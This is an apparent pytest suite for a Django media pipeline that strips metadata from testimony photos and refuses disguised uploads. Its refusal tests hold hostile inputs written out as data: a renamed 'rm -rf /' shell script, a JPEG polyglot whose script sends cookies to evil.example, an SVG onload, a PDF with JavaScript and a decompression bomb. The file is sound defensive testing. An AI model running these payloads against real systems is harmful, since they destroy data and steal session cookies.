"""The media pipeline: type by content, metadata stripped, disguised files refused,
private storage, permission-checked and audited downloads."""

import io
import os
import stat
import struct
import sys
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from core.files import private_path
from core.models import AuditEvent
from temoignages import services
from temoignages.models import MediaAttachment
from tests.temoignages.factories import TestimonyFactory, usable_testimony

pytestmark = pytest.mark.django_db

XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,51.0N"/></rdf:RDF>'
    b'</x:xmpmeta><?xpacket end="w"?>'
)


def jpeg_with_metadata(size=(80, 40), orientation=6) -> bytes:
    """A JPEG carrying EXIF (camera, orientation), GPS, XMP and a comment."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Canon"
    exif[0x0110] = "EOS 5D"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)})
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(
        buffer, "JPEG", exif=exif.tobytes(), xmp=XMP, comment=b"Ahmed, Calais"
    )
    data = buffer.getvalue()
    assert b"Canon" in data
    assert b"xpacket" in data
    return data


def png_with_metadata() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("XML:com.adobe.xmp", XMP.decode())
    info.add_text("Comment", "Ahmed, Calais")
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 24.0)})
    buffer = io.BytesIO()
    Image.new("RGBA", (30, 30), (0, 0, 255, 128)).save(
        buffer, "PNG", pnginfo=info, exif=exif.tobytes()
    )
    return buffer.getvalue()


def upload(data: bytes, name="photo.jpg"):
    return SimpleUploadedFile(name, data, content_type="image/jpeg")


@pytest.fixture
def draft(field_calais):
    return TestimonyFactory(collected_by=field_calais)


def attach(testimony, data, name="photo.jpg", user=None):
    return services.media_attach(
        testimony=testimony, upload=upload(data, name), uploaded_by=user or testimony.collected_by
    )


# --- Metadata ---------------------------------------------------------------------------


def test_exif_gps_and_xmp_present_in_are_absent_out(draft):
    media = attach(draft, jpeg_with_metadata())
    stored = private_path(media.storage_path).read_bytes()
    image = Image.open(io.BytesIO(stored))
    assert dict(image.getexif()) == {}
    assert image.getexif().get_ifd(0x8825) == {}
    for key in ("exif", "xmp", "comment", "icc_profile", "photoshop"):
        assert key not in image.info
    for marker in (b"Canon", b"EOS", b"xpacket", b"GPSLatitude", b"Ahmed", b"Exif\x00\x00"):
        assert marker not in stored
    assert media.metadata_stripped is True
    assert media.mime_type == "image/jpeg"


def test_orientation_is_applied_before_stripping(draft):
    media = attach(draft, jpeg_with_metadata(size=(80, 40), orientation=6))
    assert (media.width, media.height) == (40, 80)


def test_png_text_chunks_and_exif_are_removed(draft):
    media = attach(draft, png_with_metadata(), name="scan.png")
    stored = private_path(media.storage_path).read_bytes()
    image = Image.open(io.BytesIO(stored))
    assert media.mime_type == "image/png"  # transparency kept
    assert "XML:com.adobe.xmp" not in image.info
    assert "Comment" not in image.info
    assert "exif" not in image.info
    assert b"Ahmed" not in stored
    assert b"xpacket" not in stored


def test_thumbnail_is_made_and_carries_no_metadata(draft):
    media = attach(draft, jpeg_with_metadata(size=(1200, 900), orientation=1))
    thumb = private_path(media.thumbnail_path).read_bytes()
    image = Image.open(io.BytesIO(thumb))
    assert max(image.size) <= 480
    assert "exif" not in image.info
    assert b"Canon" not in thumb


def test_checksum_size_and_server_chosen_private_name(draft, settings):
    media = attach(draft, jpeg_with_metadata(), name="Ahmed_Calais_2026.jpg")
    path = private_path(media.storage_path)
    data = path.read_bytes()
    import hashlib

    assert media.sha256 == hashlib.sha256(data).hexdigest()
    assert media.size_bytes == len(data)
    assert path.is_relative_to(Path(settings.PRIVATE_STORAGE_ROOT))
    assert "Ahmed" not in media.storage_path
    assert media.original_name == "Ahmed_Calais_2026.jpg"  # kept encrypted, never on disk
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


# --- Refusals ---------------------------------------------------------------------------


def _refused(testimony, data, name="photo.jpg"):
    with pytest.raises(ValidationError) as excinfo:
        attach(testimony, data, name)
    assert not MediaAttachment.objects.filter(testimony=testimony).exists()
    return " ".join(excinfo.value.message_dict["file"])


def test_script_renamed_jpg_is_refused(draft, settings):
    message = _refused(draft, b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "photo.jpg")
    assert "contenu" in message
    assert not any(Path(settings.PRIVATE_STORAGE_ROOT).rglob("*.*"))


def test_html_renamed_jpg_is_refused(draft):
    _refused(draft, b"<html><body><script>alert(document.cookie)</script></body></html>")


def test_jpeg_with_hidden_script_polyglot_is_refused(draft):
    data = jpeg_with_metadata() + b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    assert "caché" in _refused(draft, data)


def test_jpeg_with_appended_zip_polyglot_is_refused(draft):
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.txt", "hidden")
    assert "archive" in _refused(draft, jpeg_with_metadata() + archive.getvalue())


def test_svg_is_refused(draft):
    _refused(draft, b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image.svg")


def test_pdf_with_javascript_is_refused(draft):
    pdf = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript "
        b"/JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"
    )
    assert "JavaScript" in _refused(draft, pdf, "doc.pdf")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def test_decompression_bomb_is_refused_before_decoding(draft):
    # 60 000 × 60 000 pixels announced in a file of a few hundred bytes.
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _png_chunk(b"IEND", b"")
    )
    assert len(bomb) < 1000
    assert "décompression" in _refused(draft, bomb, "bomb.png")


def test_image_over_the_pixel_limit_is_refused(draft, settings):
    settings.TEMOIGNAGES_MAX_IMAGE_PIXELS = 100 * 100
    buffer = io.BytesIO()
    Image.new("RGB", (200, 200)).save(buffer, "PNG")
    _refused(draft, buffer.getvalue(), "big.png")


def test_oversized_file_is_refused_with_the_limit_in_words(draft, settings):
    settings.TEMOIGNAGES_MEDIA_MAX_BYTES = {**settings.TEMOIGNAGES_MEDIA_MAX_BYTES, "photo": 1024}
    message = _refused(draft, jpeg_with_metadata(size=(400, 400)))
    assert "volumineux" in message
    assert "1,0" in message  # the limit, in words (1,0 Kio)


def test_oversized_beyond_every_limit_is_refused_before_reading(draft, settings):
    settings.TEMOIGNAGES_MEDIA_MAX_BYTES = dict.fromkeys(
        ("photo", "audio", "video", "document"), 10
    )
    _refused(draft, b"x" * 100)


def test_empty_and_corrupt_images_are_refused(draft):
    _refused(draft, b"")
    _refused(draft, jpeg_with_metadata()[:40])  # JPEG signature, no image


# --- Audio / video / documents ----------------------------------------------------------

MP3 = (
    b"ID3\x03\x00\x00\x00\x00\x00\x15TIT2\x00\x00\x00\x0b\x00\x00\x00Ahmed song"
    + b"\xff\xfb\x90\x00" * 200
)
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 200


def test_audio_without_ffmpeg_is_stored_as_is_and_flagged(draft, settings):
    settings.TEMOIGNAGES_FFMPEG_BINARY = ""
    media = attach(draft, MP3, "voice.mp3")
    assert media.kind == "audio"
    assert media.mime_type == "audio/mpeg"
    assert media.metadata_stripped is False
    assert private_path(media.storage_path).read_bytes() == MP3


def test_video_goes_through_ffmpeg_when_available(draft, settings, tmp_path):
    fake = tmp_path / "ffmpeg"
    fake.write_text(
        f"#!{sys.executable}\n"
        "import sys, shutil\n"
        "args = sys.argv[1:]\n"
        "assert '-map_metadata' in args and args[args.index('-map_metadata') + 1] == '-1'\n"
        "open(args[-1], 'wb').write(b'CLEAN' + open(args[args.index('-i') + 1], 'rb').read()[:8])\n"
    )
    fake.chmod(0o755)
    settings.TEMOIGNAGES_FFMPEG_BINARY = str(fake)
    media = attach(draft, MP4, "clip.mp4")
    assert media.kind == "video"
    assert media.metadata_stripped is True
    assert private_path(media.storage_path).read_bytes().startswith(b"CLEAN")


def test_failing_ffmpeg_keeps_the_file_flagged(draft, settings, tmp_path):
    fake = tmp_path / "ffmpeg"
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    settings.TEMOIGNAGES_FFMPEG_BINARY = str(fake)
    media = attach(draft, MP4, "clip.mp4")
    assert media.metadata_stripped is False


def test_clean_pdf_document_is_accepted(draft):
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    media = attach(draft, pdf, "attestation.pdf")
    assert media.kind == "document"
    assert media.mime_type == "application/pdf"


# --- Download view ----------------------------------------------------------------------


def test_download_is_an_attachment_with_server_name_nosniff_and_audited(client_for, coordinator):
    testimony = usable_testimony()
    media = attach(testimony, jpeg_with_metadata(), "Ahmed.jpg", user=coordinator)
    url = reverse("temoignages:media_download", args=[testimony.pk, media.pk])
    response = client_for(coordinator).get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert f"{testimony.reference}-photo-{media.pk}.jpg" in response["Content-Disposition"]
    assert "Ahmed" not in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert b"".join(response.streaming_content) == private_path(media.storage_path).read_bytes()
    event = AuditEvent.objects.get(action="download", object_id=str(testimony.pk))
    assert event.actor == coordinator
    assert event.detail["media"] == media.pk


def test_download_through_nginx_x_accel_redirect(client_for, coordinator, settings):
    settings.PRIVATE_STORAGE_X_ACCEL_PREFIX = "/_private/"
    testimony = usable_testimony()
    media = attach(testimony, jpeg_with_metadata(), user=coordinator)
    response = client_for(coordinator).get(
        reverse("temoignages:media_download", args=[testimony.pk, media.pk])
    )
    assert response["X-Accel-Redirect"] == "/_private/" + media.storage_path
    assert response.content == b""
    assert response["X-Content-Type-Options"] == "nosniff"


def test_advocacy_cannot_download_a_photo_the_consent_does_not_cover(
    client_for, coordinator, advocacy_fr
):
    testimony = usable_testimony(consent={"element_image": False})
    media = attach(testimony, jpeg_with_metadata(), user=coordinator)
    url = reverse("temoignages:media_download", args=[testimony.pk, media.pk])
    assert client_for(advocacy_fr).get(url).status_code == 404


def test_upload_view_keeps_the_caption_and_explains_a_refusal(client_for, field_calais, draft):
    response = client_for(field_calais).post(
        reverse("temoignages:media_upload", args=[draft.pk]),
        {"file": upload(b"#!/bin/sh\necho\n", "photo.jpg"), "caption": "Tente au bord du canal"},
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "Type de fichier refusé" in content
    assert "Tente au bord du canal" in content


def test_upload_view_stores_a_clean_photo(client_for, field_calais, draft):
    response = client_for(field_calais).post(
        reverse("temoignages:media_upload", args=[draft.pk]),
        {"file": upload(jpeg_with_metadata()), "caption": ""},
    )
    assert response.status_code == 302
    assert draft.media.get().metadata_stripped


def test_delete_removes_files_from_disk(
    client_for, field_calais, draft, django_capture_on_commit_callbacks
):
    media = attach(draft, jpeg_with_metadata())
    paths = [private_path(media.storage_path), private_path(media.thumbnail_path)]
    assert all(p.exists() for p in paths)
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(field_calais).post(
            reverse("temoignages:media_delete", args=[draft.pk, media.pk])
        )
    assert response.status_code == 302
    assert not any(p.exists() for p in paths)
